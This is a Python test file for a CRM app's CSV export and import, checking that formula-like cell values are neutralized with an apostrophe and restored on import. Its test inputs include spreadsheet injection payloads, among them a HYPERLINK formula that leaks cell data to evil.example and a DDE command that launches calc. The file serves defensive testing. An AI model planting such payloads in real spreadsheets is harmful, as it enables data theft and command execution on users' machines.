"""What our CSV exports write against formula injection, and what our import undoes."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm_desktop.interop.csv_cells import neutralized, unneutralized
from crm_desktop.interop.csv_export import write_google_csv, write_outlook_csv
from crm_desktop.interop.csv_import import read_csv_file
from crm_desktop.interop.vcard_import import ReadCard
from crm_desktop.records.drafts import ContactDraft, CustomValue, PhoneValue
from crm_desktop.records.problems import Problem
from tests.paths import DATA

Writer = Callable[[list[ContactDraft], io.StringIO], int]


@pytest.mark.parametrize(
    "value",
    [
        "+49 30 1234567",
        "+1 (555) 010-0199",
        "+30.210.555.0101",
        "+44 20/7946 0000",
        "-5",
        "-1250.50",
        "--04-15",  # Google CSV's birthday without a year
        "+۹۸ ۲۱ ۱۲۳۴ ۵۶۷۸",  # Persian digits
        "-",
    ],
)
def test_a_value_of_digits_spaces_and_phone_signs_is_written_as_it_is(value: str) -> None:
    assert neutralized(value) == value
    assert unneutralized(value) == value


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "-2+3+cmd|' /C calc'!A0",
        "+1 555 0100 ext. 7",  # a letter: not only digits and signs
        "@SUM(A1:A9)",
        "+A1",
        "-1e3",
        "\t=1+1",
        "\r=1+1",
        "\x00=1+1",
        "+49 30 1234567\n=1+1",  # a line break is not a space
        "+49\t30",
    ],
)
def test_a_value_a_spreadsheet_could_run_is_written_after_an_apostrophe(value: str) -> None:
    assert neutralized(value) == "'" + value
    assert unneutralized(neutralized(value)) == value


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("'=1+1", "''=1+1"),
        ("'+49 30 1234567", "''+49 30 1234567"),
        ("''@x", "'''@x"),
        ("'abc", "'abc"),
        ("'", "'"),
        ("It's =1+1", "It's =1+1"),
    ],
)
def test_an_apostrophe_the_user_typed_survives_our_own_round_trip(typed: str, written: str) -> None:
    assert neutralized(typed) == written
    assert unneutralized(written) == typed


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        ("'+49 30 1234567", "+49 30 1234567"),  # what our exports wrote before
        ("'-5", "-5"),
        ("'--04-15", "--04-15"),
        ("'=1+1", "=1+1"),  # what other programs that follow OWASP write
        ("'abc", "'abc"),  # no formula after it: the apostrophe is the user's
        ("'", "'"),
    ],
)
def test_the_import_removes_one_apostrophe_before_a_formula_character(
    cell: str, value: str
) -> None:
    assert unneutralized(cell) == value


@given(st.text())
def test_every_value_comes_back_from_what_the_export_writes(value: str) -> None:
    written = neutralized(value)
    assert unneutralized(written) == value
    if written == value and value.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")):
        assert all(c.isdecimal() or c in " +-()./" for c in value)  # nothing that can run


def _cells(text: str) -> dict[str, str]:
    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[:2]
    return dict(zip(header, row, strict=True))


def _read_back(tmp_path: Path, text: str) -> ContactDraft:
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8", newline="")
    [item] = [i for i in read_csv_file(path) if not isinstance(i, Problem) or i.fatal]
    assert isinstance(item, ReadCard) and isinstance(item.record, ContactDraft)
    return item.record


TYPED = ContactDraft(
    given_name="Ana",
    family_name="'=1+1",  # typed so, apostrophe and all
    note="=SUM(A1:A3) is not a formula here",
    birthday="--04-15",
    phones=(PhoneValue("+49 30 1234567", ("work",)), PhoneValue("'+49 151 2345", ("cell",))),
)


def test_outlook_csv_writes_phones_as_they_are_and_reads_every_value_back(
    tmp_path: Path,
) -> None:
    out = io.StringIO()
    write_outlook_csv([TYPED], out)
    cells = _cells(out.getvalue())
    assert cells["Business Phone"] == "+49 30 1234567"
    assert cells["Mobile Phone"] == "''+49 151 2345"
    assert cells["Last Name"] == "''=1+1"
    assert cells["Notes"] == "'=SUM(A1:A3) is not a formula here"
    again = _read_back(tmp_path, out.getvalue())
    assert again.family_name == "'=1+1" and again.note == TYPED.note
    assert [p.value for p in again.phones] == ["+49 30 1234567", "'+49 151 2345"]


def test_google_csv_writes_a_yearless_birthday_in_its_own_form_and_reads_it_back(
    tmp_path: Path,
) -> None:
    draft = ContactDraft(
        given_name=TYPED.given_name, family_name=TYPED.family_name, note=TYPED.note,
        birthday=TYPED.birthday, phones=TYPED.phones,
        custom_fields=(CustomValue("Balance", "-1250.50"), CustomValue("Code", "'@x")),
    )  # fmt: skip
    out = io.StringIO()
    write_google_csv([draft], out)
    cells = _cells(out.getvalue())
    assert cells["Birthday"] == "--04-15"
    assert (cells["Phone 1 - Value"], cells["Phone 2 - Value"]) == (
        "+49 30 1234567",
        "''+49 151 2345",
    )
    assert (cells["Custom Field 1 - Value"], cells["Custom Field 2 - Value"]) == (
        "-1250.50",
        "''@x",
    )
    again = _read_back(tmp_path, out.getvalue())
    assert (again.family_name, again.note, again.birthday) == (
        "'=1+1",
        TYPED.note,
        "--04-15",
    )
    assert [p.value for p in again.phones] == ["+49 30 1234567", "'+49 151 2345"]
    assert again.custom_fields == draft.custom_fields


def test_google_csv_as_google_writes_it_keeps_plus_phones_and_a_yearless_birthday() -> None:
    lena, tomas = (
        i.record
        for i in read_csv_file(DATA / "google-csv-yearless-birthday-and-plus-phones.csv")
        if isinstance(i, ReadCard)
    )
    assert isinstance(lena, ContactDraft) and isinstance(tomas, ContactDraft)
    assert (lena.family_name, lena.birthday) == ("Krüger", "--04-15")
    assert [p.value for p in lena.phones] == ["+49 151 2345 6789", "+49 30 1234567"]
    assert (tomas.birthday, tomas.note) == ("1984-11-02", "-3 °C in Burgos, call after noon")


def test_an_outlook_csv_our_earlier_versions_wrote_reads_without_the_apostrophes() -> None:
    [item] = list(read_csv_file(DATA / "outlook-csv-earlier-export-apostrophe-phones.csv"))
    assert isinstance(item, ReadCard) and isinstance(item.record, ContactDraft)
    lena = item.record
    assert [p.value for p in lena.phones] == ["+49 30 1234567", "+49 151 2345 6789"]
    assert (lena.family_name, lena.note) == ("Krüger", "=1+1 is what she wrote")
